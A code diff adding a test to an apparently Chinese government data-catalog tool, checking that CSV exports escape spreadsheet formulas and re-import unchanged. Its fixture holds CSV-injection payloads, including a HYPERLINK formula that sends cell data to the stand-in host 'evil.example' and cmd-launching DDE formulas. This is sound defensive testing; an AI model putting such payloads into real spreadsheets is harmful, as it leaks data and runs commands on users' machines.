@@ -208,6 +208,37 @@ def test_csv_in_gb18030_round_trips_and_exports_the_same_bytes_twice(hebei, tmp_
     assert stdout.stdout_bytes.decode("utf-8-sig").splitlines()[0] == ",".join(c.header for c in COLUMNS)
 
 
+# Cells a spreadsheet would run as formulas (OWASP's CSV injection examples, and a value that
+# was already quoted), in the fields a department writes freely.
+FORMULAS = dict(name="=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", summary="+1+cmd|' /C calc'!A0",
+                source_system="@SUM(1+1)*cmd|' /C calc'!A0", share_type="conditional",
+                share_condition="-2+3+cmd|' /C calc'!A0", keywords=("-1", "企业"),
+                data_items=(DataItem("=A1", "string", 20, "'=已加引号"), DataItem("企业名称", "string", 200)))
+
+
+def test_a_csv_export_runs_no_formula_and_imports_back_unchanged(hebei, tmp_path):
+    entries = [dataclasses.replace(e, **{**FORMULAS, "name": f"{FORMULAS['name']}{i}"}) for i, e in
+               enumerate(department_entries(3))]
+    reply = hebei.catalog.PublishEntries(iter([catalog_pb2.PublishEntriesRequest(
+        entries=[serde.entry_to_proto(e) for e in entries])]))
+    assert reply.created == 3
+    path = tmp_path / "export.csv"
+    assert cascade("entry", "export", path, "--target", hebei.node.address).exit_code == 0
+    import csv
+
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in list(csv.reader(f))[1:] for c in row]
+    # what Excel would run starts with a quote; a plain number (-1 alone) would not, but the
+    # keywords cell holds more than the number
+    assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
+    assert {c for c in cells if c.startswith("'")} >= {"'" + FORMULAS["summary"], "'" + FORMULAS["source_system"],
+                                                       "'" + FORMULAS["share_condition"]}
+    result = cascade("entry", "import", path, "--target", hebei.node.address)
+    assert result.exit_code == 0 and "created 0, updated 0, unchanged 3" in result.stdout, result.output
+    after = {e.resource_code: e for e in listed(hebei)}
+    assert sorted(content(e) for e in after.values()) == sorted(content(e) for e in entries)
+
+
 def test_a_sheet_with_bad_cells_reports_every_one_and_stores_nothing(hebei, tmp_path):
     good = department_entries(100)
     assert cascade("entry", "import", _sheet(tmp_path / "first.xlsx", good[:3]), "--config", hebei.config_path,
